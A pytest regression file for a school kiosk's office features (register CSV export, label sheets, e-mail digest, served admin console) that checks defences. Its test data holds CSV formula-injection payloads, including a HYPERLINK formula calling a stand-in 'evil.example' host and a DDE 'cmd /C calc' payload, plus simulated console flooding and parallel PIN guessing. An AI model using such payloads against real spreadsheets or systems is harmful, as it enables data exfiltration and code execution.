"""Office red-team round 14: what the office reads and exports is the truth of the record, and
hostile text in it hurts no one (exports, labels, e-mails, the CLI)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from kiosk.config import Settings
from kiosk.db.engine import make_engine
from kiosk.services.app import Services
from tests.conftest import FakeClock
from tests.school import make_ready, make_school

# A cell a spreadsheet can take for a formula: the ASCII starts, their full-width forms (a
# spreadsheet in a Japanese or Chinese locale reads U+FF1D as =), and the ASCII starts behind spaces
# (LibreOffice's "trim spaces" import option takes them off first).
FORMULAS = [
    '\uff1dHYPERLINK("http://evil.example/"&A1,"Click")',
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.fixture
def school(db_url: str) -> Iterator[Services]:
    services = Services(make_engine(db_url), Settings(database_url=db_url), FakeClock())
    make_school(services)
    yield services
    services.close()


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def _formula_like(cell: str) -> bool:
    import unicodedata

    start = unicodedata.normalize("NFKC", cell).lstrip()
    return start.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_correction_reason_in_full_width_is_no_formula_in_the_register_csv(
    school: Services, text: str
) -> None:
    """A correction's reason is free text typed at the console: a full-width U+FF1D (or a formula
    behind spaces) came out of the register CSV as written, a live formula in a spreadsheet
    whose locale reads U+FF1D as =. Now it is prefixed with ' like any formula."""
    deposit = school.phones.deposit("BJONES")
    school.register.void(deposit.event_id, reason=text, admin_code="DOFFICE")
    out = io.StringIO()
    school.register.export_csv(out, deposit.occurred_at.date())
    cells = _cells(out.getvalue())
    risky = [cell for cell in cells if _formula_like(cell)]
    assert risky == []
    assert any(cell.startswith("'") and text.strip() in cell for cell in cells)


# --- a correction voids a mistake at the kiosk, never a record of what the office did ----------


def test_a_list_change_or_an_admin_record_cannot_be_voided(school: Services) -> None:
    """An admin could "correct" the record of a list change (a store, a member of staff added),
    an admin action (an export, a policy published), a lockout or a calendar setting: the
    register and its CSV then said "voided" while the change stood (the store and the person
    were still there, the lockout still reported), and an admin could strike out the record
    of their own actions. Now the console and the service refuse, saying why; nothing is
    recorded, and the event is shown as it was."""
    from kiosk.domain.errors import RuleViolation

    day = school.ctx.clock().date()
    rows = school.register.day(day).rows
    office = {r.kind: r.event_id for r in rows if r.kind in ("reference_changed", "admin_action")}
    assert set(office) == {"reference_changed", "admin_action"}
    before = school.register.last_event_id()
    for kind, event_id in office.items():
        with pytest.raises(RuleViolation, match="cannot be voided") as caught:
            school.register.void(event_id, reason="hide it", admin_code="DOFFICE")
        assert "change it again" in str(caught.value) or "record" in str(caught.value), kind
    assert school.register.last_event_id() == before
    assert not any(r.voided for r in school.register.day(day).rows)
    # A mistake at the kiosk is still corrected as before.
    deposit = school.phones.deposit("BJONES")
    school.register.void(deposit.event_id, reason="wrong badge", admin_code="DOFFICE")
    assert next(r for r in school.register.day(day).rows if r.event_id == deposit.event_id).voided


# --- the console in a browser: one process per console, and no more than the office needs ----


@pytest.fixture
def served(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """`kiosk admin --serve --max-consoles 1` on a school of its own."""
    from tests.test_admin_browser import free_port, wait_for

    url = f"sqlite:///{tmp_path / 'kiosk.sqlite3'}"
    monkeypatch.setenv("KIOSK_DATABASE_URL", url)
    services = Services.open(Settings(database_url=url, kiosk_name="test-kiosk"))
    make_school(services)
    services.admin.set_pin("402718")
    services.close()
    port = free_port()
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "kiosk",
            "admin",
            "--serve",
            "--port",
            str(port),
            "--max-consoles",
            "1",
        ],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=os.environ.copy(),
    )

    def answering() -> bool:
        with socket.socket() as s:
            return s.connect_ex(("127.0.0.1", port)) == 0

    try:
        wait_for("the server to answer", answering, 30)
        yield f"http://127.0.0.1:{port}/"
    finally:
        process.terminate()
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


async def _console(url: str) -> tuple[int, str, Any]:
    """Open a console as the server's own page does: (status, what it drew, its socket)."""
    import aiohttp

    port = urlsplit(url).port
    session = aiohttp.ClientSession()
    ws_url = url.replace("http://", "ws://") + "ws?width=80&height=24"
    try:
        socket_ = await session.ws_connect(ws_url, headers={"Origin": f"http://127.0.0.1:{port}"})
    except aiohttp.WSServerHandshakeError as exc:
        await session.close()
        return exc.status, str(exc.message), None
    first = await socket_.receive(timeout=40)
    if first.type == aiohttp.WSMsgType.TEXT and json.loads(first.data)[0] == "refused":
        # No console: the sentence the page shows, then the socket closes (4000 + status).
        await socket_.receive(timeout=10)
        status = (socket_.close_code or 0) - 4000
        await session.close()
        return status, json.loads(first.data)[1], None
    await socket_.send_str(json.dumps(["resize", {"width": 80, "height": 24}]))
    drawn = first.data.decode("utf-8", "replace") if first.type == aiohttp.WSMsgType.BINARY else ""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 40
    while "admin PIN" not in drawn and loop.time() < deadline:
        try:
            message = await socket_.receive(timeout=deadline - loop.time())
        except TimeoutError:
            break
        if message.type == aiohttp.WSMsgType.BINARY:
            drawn += message.data.decode("utf-8", "replace")
        elif message.type != aiohttp.WSMsgType.TEXT:
            break
    return 101, drawn, (session, socket_)


@pytest.mark.ui
def test_the_served_console_opens_no_more_consoles_than_allowed(served: str) -> None:
    """Each WebSocket to `kiosk admin --serve` starts a `kiosk admin` process (about 80 MB):
    anything that reached the server (the school's network through the proxy; the Origin
    header is the client's to send) could open sockets until the machine, often the kiosk
    itself, ran out of memory. Now the server opens at most --max-consoles (4 by default) at
    once and answers the next with a sentence saying why, which the page shows (the socket
    then closes with code 4503: no process was started); a console closed frees
    its place."""

    async def attack() -> None:
        status, drawn, first = await _console(served)
        assert status == 101 and "admin PIN" in drawn, drawn[-300:]
        status, said, second = await _console(served)
        assert second is None, "a second console was opened past --max-consoles 1"
        assert status == 503 and "already open" in said
        session, socket_ = first
        await socket_.close()
        await session.close()
        for _ in range(40):  # the first console's process stops; its place is free again
            await asyncio.sleep(0.5)
            status, drawn, third = await _console(served)
            if third is not None:
                break
        assert status == 101 and "admin PIN" in drawn
        await third[1].close()
        await third[0].close()

    asyncio.run(attack())


# --- label sheets never replace a file without being asked ------------------------------------


def test_labels_do_not_replace_a_file_unless_asked(
    school: Services, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """`kiosk labels --out FILE` (and the console's "Print labels to a file", which in the
    browser is the admin's only way to write on the server) wrote over any .pdf, .png or .svg
    there was: last term's signed policy scan, another sheet, silently gone. Now an existing
    file (any page of a sheet) is kept and the admin is told; --replace (the console: "Replace
    it") writes over it."""
    from kiosk.cli import main
    from kiosk.domain.errors import InvalidInput
    from kiosk.services import labels

    monkeypatch.setenv("KIOSK_DATABASE_URL", school.settings.database_url)
    kept = tmp_path / "signed-policy.pdf"
    kept.write_bytes(b"%PDF-1.4 the head's signed copy\n")
    sheet = labels.device_labels(school.people)
    with pytest.raises(InvalidInput, match="already exists"):
        labels.write_sheet(sheet, kept)
    assert kept.read_bytes() == b"%PDF-1.4 the head's signed copy\n"
    status = main(["labels", "--devices", "--out", str(kept)])
    err = capsys.readouterr().err
    assert status == 1 and "already exists" in err and "--replace" in err
    assert kept.read_bytes() == b"%PDF-1.4 the head's signed copy\n"
    # A later page of a multi-page sheet counts too.
    (tmp_path / "one-2.png").write_bytes(b"keep me")
    one = str(tmp_path / "one.png")
    status = main(["labels", "--only", "LAP-001,LAP-002", "--stock", "dymo-99012", "--out", one])
    assert status == 1 and "one-2.png" in capsys.readouterr().err
    assert not (tmp_path / "one-1.png").exists()
    assert (tmp_path / "one-2.png").read_bytes() == b"keep me"
    # Asked to: replaced.
    assert main(["labels", "--devices", "--replace", "--out", str(kept)]) == 0
    assert kept.read_bytes().startswith(b"%PDF") and b"signed copy" not in kept.read_bytes()


# --- the hour the clocks go back, in the CSV as on screen --------------------------------------


def test_the_register_csv_tells_apart_the_two_hours_the_clocks_go_back(school: Services) -> None:
    """On the last Sunday of October the wall clock shows 01:00 to 01:59 twice. The console
    and `kiosk register` say which (01:45 BST, 01:15 GMT), but the CSV's local_time said
    "2026-10-25 01:45:00" for the deposit and "2026-10-25 01:15:00" for the collection half
    an hour later: in the office's spreadsheet the phone was collected before it came in.
    Now the CSV names the zone in that hour, as the screen does (and only there)."""
    from datetime import UTC, date, datetime

    clock = school.ctx.clock
    assert isinstance(clock, FakeClock)
    clock.set(datetime(2026, 10, 25, 0, 45, tzinfo=UTC))  # 01:45 BST
    school.phones.deposit("BJONES")
    clock.set(datetime(2026, 10, 25, 1, 15, tzinfo=UTC))  # 01:15 GMT, half an hour later
    school.phones.collect("BJONES")
    clock.set(datetime(2026, 10, 25, 9, 0, tzinfo=UTC))  # an ordinary hour
    school.phones.deposit("BJONES")
    out = io.StringIO()
    school.register.export_csv(out, date(2026, 10, 25))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    phones = [(r["what"], r["local_time"]) for r in rows if r["kind"].startswith("phone")]
    assert phones == [
        ("Phone deposited", "2026-10-25 01:45:00 BST"),
        ("Phone collected", "2026-10-25 01:15:00 GMT"),
        ("Phone deposited", "2026-10-25 09:00:00"),
    ]


# --- an unreadable event keeps its own time where that can be read ----------------------------


def test_an_unreadable_event_is_not_given_another_time_in_the_export(
    school: Services, db_url: str
) -> None:
    """An event whose details were garbled (someone with the database) is listed as
    UNREADABLE ROW, as it should be, but at the start of the day or range asked for: in a
    week's CSV, Thursday 14:00's garbled deposit read "Monday 00:00:00", first in the file,
    a time that event never had. Its time is stored apart from its details and still read:
    now the row keeps it, in its place in time order."""
    from datetime import UTC, date, datetime

    from tests.reliability.helpers import meddle

    clock = school.ctx.clock
    assert isinstance(clock, FakeClock)
    clock.set(datetime(2026, 3, 9, 9, 0, tzinfo=UTC))  # Monday
    school.phones.deposit("ASMITH")
    clock.set(datetime(2026, 3, 12, 14, 0, tzinfo=UTC))  # Thursday 14:00
    garbled = school.phones.deposit("BJONES").event_id
    clock.set(datetime(2026, 3, 12, 15, 0, tzinfo=UTC))
    school.phones.collect("ASMITH")
    with meddle(db_url) as db:
        db.overwrite(garbled, {"details": "[1]"})
    out = io.StringIO()
    school.register.export_csv(out, date(2026, 3, 9), date(2026, 3, 13))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    marked = next(r for r in rows if r["event_id"] == str(garbled))
    assert marked["what"] == "UNREADABLE ROW"
    assert marked["local_time"] == "2026-03-12 14:00:00"
    times = [r["utc_time"] for r in rows]
    assert times == sorted(times)  # still in time order
    day = school.register.day(date(2026, 3, 12)).rows
    assert next(r for r in day if r.event_id == garbled).occurred_at == datetime(
        2026, 3, 12, 14, 0, tzinfo=UTC
    )


def test_an_event_whose_row_cannot_be_read_keeps_its_own_time(sqlite_url: str) -> None:
    """The same for an event whose row cannot be read at all (a date column of it garbled,
    its time intact): listed at its own time, not at the start of the range."""
    import sqlite3
    from datetime import UTC, date, datetime, timedelta

    from tests.reliability.helpers import sqlite_path

    clock = FakeClock(datetime(2026, 3, 9, 9, 0, tzinfo=UTC))
    services = Services(make_engine(sqlite_url), Settings(database_url=sqlite_url), clock)
    make_school(services)
    clock.set(datetime(2026, 3, 12, 14, 0, tzinfo=UTC))
    make_ready(services, "ASMITH")
    services.devices.sign_out(
        "ASMITH", ["LAP-001"], reason="Reports", expected_return=clock() + timedelta(hours=2)
    )
    garbled = services.register.last_event_id()
    conn = sqlite3.connect(sqlite_path(sqlite_url), isolation_level=None)
    try:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='trigger'")]
        for name in names:
            conn.execute(f'DROP TRIGGER "{name}"')
        conn.execute("UPDATE events SET due_at = 'garbage' WHERE id = ?", (garbled,))
    finally:
        conn.close()
    rows = list(services.register.rows_between(date(2026, 3, 9), date(2026, 3, 13)))
    marked = next(r for r in rows if r.event_id == garbled)
    services.close()
    assert marked.what == "UNREADABLE ROW"
    assert marked.occurred_at == datetime(2026, 3, 12, 14, 0, tzinfo=UTC)


# --- the office's end-of-day e-mail names each person once, unmistakably ---------------------


def test_the_office_digest_lists_who_has_not_acknowledged_by_name_and_code(
    school: Services,
) -> None:
    """The end-of-day e-mail listed who had not acknowledged a required policy as bare names
    joined by commas: "Smith, Alice" (a name written surname first, or one chosen for it)
    read as two people, "Smith" and "Alice", and two colleagues called Ben Jones read as one.
    Every other list in the e-mail gives the staff code; this one now does too, one person
    to a line."""
    from dataclasses import replace
    from datetime import UTC, datetime

    clock = school.ctx.clock
    assert isinstance(clock, FakeClock)
    school.people.add_staff("ASMITH2", "Smith, Alice", admin_code="DOFFICE")
    school.people.add_staff("BJONES2", "Ben Jones", admin_code="DOFFICE")
    for code in ("ASMITH", "CHEAD", "DOFFICE", "EPATEL"):
        make_ready(school, code)
    clock.set(datetime(2026, 3, 10, 17, 0, tzinfo=UTC))  # after the end of the school day
    mailing = Services(
        school.ctx.engine,
        replace(school.settings, smtp_host="127.0.0.1", office_email="office@school.example"),
        clock,
    )
    report = mailing.notify.run(dry_run=True, is_school_day=lambda day: day.weekday() < 5)
    (digest,) = [n for n in report.due if n.kind == "office_digest"]
    assert "Smith, Alice, Ben Jones" not in digest.text
    for shown in ("Smith, Alice (ASMITH2)", "Ben Jones (BJONES)", "Ben Jones (BJONES2)"):
        assert f"- {shown}\n" in digest.text, digest.text
        assert f"<li>{shown}</li>" in digest.html, digest.html


# --- the PIN pad's count, with several consoles at once -----------------------------------


def test_wrong_pins_typed_at_once_in_several_consoles_are_all_counted(school: Services) -> None:
    """The served console starts one process per browser tab, and they share this machine's
    count of wrong PINs (a file). Each attempt read the count, spent a tenth of a second on
    the PIN's hash, then wrote the count plus one: eight guesses typed at once in eight tabs
    (or `kiosk ... --pin-stdin` run eight times in parallel) all read 0 and all wrote 1,
    eight guesses for one counted, with no wait and no lockout. Now the attempts on one
    machine are checked one after another: five wrong PINs lock it, whatever the timing."""
    import threading

    from kiosk.services.admin import MAX_FAILURES

    school.admin.set_pin("402718", admin_code="DOFFICE")
    guesses = 8
    start = threading.Barrier(guesses)
    said: list[str] = []

    def guess(n: int) -> None:
        start.wait()
        said.append(school.admin.check_pin(f"1111{n:02d}").message)

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(guesses)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    wrong = [m for m in said if m.startswith("Wrong PIN")]
    assert len(wrong) <= MAX_FAILURES - 1, said
    # The right PIN now: refused, the pad waits or is locked after these guesses.
    assert not school.admin.check_pin("402718").ok, said


@pytest.mark.ui
def test_the_served_console_refuses_a_screen_no_browser_has(served: str) -> None:
    """`?width=` and `?height=` in the console's WebSocket address, and the page's "resize"
    messages, were the size of the terminal the console's process drew: 100000 x 100000
    cells (ten thousand million, each drawn and sent) took the process's memory and a core
    for as long as the socket stayed open. Now a handshake asking for more than any screen
    shows is refused (close code 4400, and a sentence the page shows) before a process
    starts, and a resize is kept within bounds."""
    import aiohttp

    port = urlsplit(served).port

    async def handshake(query: str) -> int:
        ws_url = served.replace("http://", "ws://") + "ws?" + query
        async with aiohttp.ClientSession() as session:
            try:
                socket_ = await session.ws_connect(
                    ws_url, headers={"Origin": f"http://127.0.0.1:{port}"}
                )
            except aiohttp.WSServerHandshakeError as exc:
                return exc.status
            said = await socket_.receive(timeout=20)
            if said.type == aiohttp.WSMsgType.TEXT and json.loads(said.data)[0] == "refused":
                assert "at most 1000 x 500" in json.loads(said.data)[1]
                await socket_.receive(timeout=10)
                return (socket_.close_code or 0) - 4000  # said on the page, no process
            await socket_.close()
            return 101

    for query in ("width=1001&height=24", "width=80&height=501", "width=0&height=24"):
        assert asyncio.run(handshake(query)) == 400, query


def test_a_resize_is_kept_within_what_a_screen_shows() -> None:
    from kiosk.ui.admin.serve import MAX_HEIGHT, MAX_WIDTH, screen_size

    assert screen_size(120, 40) == (120, 40)
    assert screen_size(100000, 100000) == (MAX_WIDTH, MAX_HEIGHT)
    assert screen_size(-5, "x") == (1, 24)
    assert screen_size(True, 2.5) == (80, 2)


def test_every_text_cell_of_the_register_csv_is_spreadsheet_safe(
    school: Services, db_url: str
) -> None:
    """The register CSV neutralised the names and details but wrote an event's kind as
    stored, twice (the "what" column shows an unknown kind as it is): someone with the
    database who rewrote a kind as a formula had it run on the office's computer when the
    export was opened (verify names the rewrite, but the export is read first). Every text
    cell is now made safe the same way."""
    from tests.reliability.helpers import meddle

    deposit = school.phones.deposit("BJONES")
    formula = '=HYPERLINK("http://e.example","x")'  # fits kind's 40
    with meddle(db_url) as db:
        db.overwrite(deposit.event_id, {"kind": formula})
    out = io.StringIO()
    school.register.export_csv(out, deposit.occurred_at.date())
    cells = _cells(out.getvalue())
    assert [cell for cell in cells if _formula_like(cell)] == []
    assert "'" + formula in cells


# --- a name that carries another person's code --------------------------------------------


def test_a_name_showing_another_persons_code_is_refused(school: Services) -> None:
    """Every list shows a person as "Name (CODE)". A newcomer added as "Alice Smith (ASMITH)"
    with the code ASMITH2 was shown as "Alice Smith (ASMITH) (ASMITH2)" in the register, the
    phones list, the exemptions and the office's e-mail: read at a glance, as Alice Smith,
    ASMITH, whose phone it is not. Such a name is now refused at the console, the CLI and
    the roster import, naming the code; a role in brackets, or one's own code, is fine."""
    from kiosk.domain.errors import InvalidInput

    with pytest.raises(InvalidInput, match="ASMITH") as caught:
        school.people.add_staff("ASMITH2", "Alice Smith (asmith)", admin_code="DOFFICE")
    assert "another member of staff" in str(caught.value)
    report = school.people.import_staff_csv(
        b"code,name\nBJONES2,Ben Jones (BJONES)\nCNEW,Cat New (CNEWBIE)\nCNEWBIE,Cat Newbie\n",
        admin_code="DOFFICE",
    )
    assert not report.imported
    assert [p.line for p in report.problems] == [2, 3]
    assert all("another member of staff" in p.reason for p in report.problems)
    codes = {s.code for s in school.people.list_staff()}
    assert not {"ASMITH2", "BJONES2", "CNEW", "CNEWBIE"} & codes
    school.people.add_staff("JBLOGGS", "Jo Bloggs (SENCO)", admin_code="DOFFICE")
    school.people.add_staff("KOWN", "Kim Own (KOWN)", admin_code="DOFFICE")
